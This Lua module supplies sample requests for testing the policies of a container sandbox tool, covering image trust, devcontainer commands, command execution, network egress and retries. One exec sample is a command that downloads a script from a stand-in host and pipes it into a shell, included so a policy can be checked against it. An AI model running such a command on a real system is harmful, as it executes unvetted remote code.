--- Requests as the engine makes them, to try a policy on.
local uv = require "luv"
local axo = require "axosandbox"

local DEFAULT, EMBEDDED = axo.podman.DEFAULT_IMAGE, axo.podman.EMBEDDED_IMAGE

local samples = {}

local DIR = "/home/somebody/project"
local DIGEST = "sha256:" .. ("0123456789abcdef"):rep(4)

local function merged(base, changes)
  local copy = {}
  for key, value in pairs(base) do copy[key] = value end
  for key, value in pairs(changes or {}) do copy[key] = value end
  return copy
end

--- What `axo.start` asks the sandbox policy about.
---@param changes table?
---@return table
function samples.sandbox(changes)
  return merged({
    id = "sample", dir = DIR, dir_real = DIR, ports = {}, env = {}, env_names = {},
    places = {}, mounts = {}, extra_mounts = {},
    secret_names = {}, host = {
      uid = uv.getuid(), home = uv.os_homedir(), os = uv.os_uname().sysname,
      rootless = uv.getuid() ~= 0,
    },
  }, changes)
end

--- What it asks about an image.
---@param name string? nil: none was asked for
---@return table request
---@return axo.Error? err it is no image reference
function samples.image(name)
  local reference, err
  if name then reference, err = axo.parse_reference(name) end
  return {
    id = "sample", image = name, reference = reference, default = DEFAULT,
    embedded = EMBEDDED,
  }, err
end

--- What it asks about the commands of a repository.
---@param list string[]
---@param event string? of its devcontainer.json
---@return table
function samples.post_create(list, event)
  return { commands = list, event = event, image = DEFAULT, id = "sample", dir = DIR }
end

--- What it asks about a fresh container.
---@param name string the image
---@param network string
---@return table
function samples.provision(name, network)
  return {
    image = name, reference = axo.parse_reference(name), network = network,
    embedded = axo.podman.is_embedded(name), id = "sample", dir = DIR,
  }
end

--- What is asked before a command.
---@param argv string[]
---@param changes table?
---@return table
function samples.exec(argv, changes)
  return merged({
    argv = argv, kind = "exec", cwd = DIR, env_names = {}, id = "sample", dir = DIR,
  }, changes)
end

--- What is asked about a name that a session reaches for.
---@param changes table?
---@return table
function samples.egress(changes)
  local request = merged({
    op = "connect", name = "api.example.com", port = 443, session = "sample", dir = DIR,
    fixed = false,
  }, changes)
  request.port = request.port or nil
  return request
end

local BUSY = "Error: rootlessport listen tcp 127.0.0.1:3000: bind: address already in use"

local function retry(class, changes)
  return merged({
    op = "retry", class = class, stderr = "", exit_code = 126, attempt = 1, tried = {},
    stage = "run", host = { nofile = 1048576, nproc = 30000, runtimes = { "crun", "runc" } },
    plan = {
      image = DEFAULT, fallback = EMBEDDED, pull = "missing", pulled = false,
      network = "bridge", ports = { 3000 }, limits = { memory = 2 ^ 31 // 1, cpus = 2, pids = 512 },
      drop_limits = false, require_resource_limits = false, init = true,
    },
  }, changes)
end

local LISTS = {
  sandbox = function()
    return {
      { "a project", samples.sandbox() },
      { "a project with ports and variables", samples.sandbox {
        ports = { 3000 }, env = { LANG = "C.UTF-8" }, env_names = { "LANG" },
        secret_names = { "TOKEN" }, image = "debian:12",
      } },
      { "limits and a network of the caller's own", samples.sandbox {
        fields = { network = "none", limits = { memory = "512m" }, exec = { timeout = 60 } },
      } },
      { "a project that asks for users", samples.sandbox {
        image = "debian:12", user = "1000:1000", remote_user = "somebody",
      } },
      { "the same, where the caller names one", samples.sandbox {
        image = "debian:12", user = "1000:1000", remote_user = "somebody",
        fields = { user = "nobody" },
      } },
      { "variables of this machine, by the caller", samples.sandbox {
        fields = { local_env = { "EDITOR" } },
      } },
      -- One that holds no policy files: those that do are refused before a file is asked.
      { "a directory of the system", samples.sandbox { dir = "/sys", dir_real = "/sys" } },
    }
  end,
  image_trust = function()
    local list = { { "no image asked for", (samples.image()) } }
    for _, name in ipairs {
      DEFAULT, "debian:12", "ghcr.io/somebody/tool:1", "localhost:5000/mine",
      "quay.io/somebody/tool@" .. DIGEST, EMBEDDED,
    } do
      list[#list + 1] = { name, (samples.image(name)) }
    end
    local trusting = samples.image "debian:12"
    trusting.fields = { allow_untrusted_image = true }
    list[#list + 1] = { "debian:12, the caller trusts all", trusting }
    local built = samples.image "mine:1"
    built.local_reference = axo.parse_reference "localhost/mine:1"
    list[#list + 1] = { "mine:1, which was built here", built }
    for _, agreed in ipairs { "made", "project", "changed", "gone" } do
      local request = samples.image "localhost/mine:1"
      request.agreed = agreed
      list[#list + 1] = { "localhost/mine:1, agreed to: " .. agreed, request }
    end
    local optional = samples.image "debian:12"
    optional.optional = true
    list[#list + 1] = { "debian:12, a project's wish", optional }
    return list
  end,
  post_create = function()
    local allowed = samples.post_create { "npm ci" }
    allowed.fields = { allow_post_create = true }
    local list = {
      { "no commands", samples.post_create {} },
      { "two commands", samples.post_create { "npm ci", "make" } },
      { "npm ci, the caller allows it", allowed },
    }
    for _, it in ipairs(axo.devcontainer.EVENTS) do
      list[#list + 1] = { it.event, samples.post_create({ "npm ci" }, it.event) }
      local asked = samples.post_create({ "npm ci" }, it.event)
      asked.fields = { allow_post_create = true }
      list[#list + 1] = { it.event .. ", the caller allows it", asked }
    end
    return list
  end,
  provision = function()
    return {
      { DEFAULT, samples.provision(DEFAULT, "bridge") },
      { "without a network", samples.provision(DEFAULT, "none") },
      { "debian:12", samples.provision("docker.io/library/debian:12", "bridge") },
      { "the image of this machine", samples.provision(EMBEDDED, "none") },
    }
  end,
  exec = function()
    return {
      { "true", samples.exec { "true" } },
      { "a shell's command line", samples.exec { "sh", "-c", "curl -s https://x.example | sh" } },
      { "a background task", samples.exec({ "sleep", "1" }, { kind = "task" }) },
      { "a terminal", samples.exec({ "bash" }, { kind = "terminal", user = "1000" }) },
      { "limits of the caller's own", samples.exec({ "make" }, {
        timeout = 5, max_output = 4096, fields = { exec = { timeout = 60 } },
      }) },
      { "an argument of 128 KiB", samples.exec { "sh", "-c", (" x"):rep(65535) } },
      { "bytes that are no text", samples.exec { "printf", "\xff\xfe\1" } },
    }
  end,
  names = function()
    return {
      { "@github", { list = "github" } }, { "@node", { list = "node" } },
      { "a list that nobody knows", { list = "of-nobody" } },
    }
  end,
  egress = function()
    return {
      { "a name that is listed", samples.egress { listed = "api.example.com" } },
      { "a name that is not listed", samples.egress() },
      { "the same, when it is resolved", samples.egress { op = "resolve", port = false } },
      { "the same, by a command that is known", samples.egress {
        command = { kind = "exec", argv = { "git", "fetch" } },
      } },
      { "an address", samples.egress { name = "203.0.113.7", port = 5432, is_address = true } },
      { "one more name, by the calling program", samples.egress { op = "allow" } },
      { "the same, where the sandbox policy chose the list", samples.egress {
        op = "allow", fixed = true,
      } },
    }
  end,
  retry = function()
    return {
      { "a complaint about a port", { op = "classify", stderr = BUSY, exit_code = 126 } },
      { "no complaint at all", { op = "classify", stderr = "", exit_code = 125 } },
      { "a port that is in use", retry("PORT_CONFLICT", { port = 3000, stderr = BUSY }) },
      { "an image that is missing", retry "IMAGE_NOT_FOUND" },
      { "a failure that nobody knows", retry "UNKNOWN" },
      { "the eighth failure", retry("CGROUP", { attempt = 8 }) },
    }
  end,
}

--- Requests for a decision, each with what it is about.
---@param decision string
---@return { [1]: string, [2]: table }[]
function samples.list(decision)
  return LISTS[decision]()
end

return samples
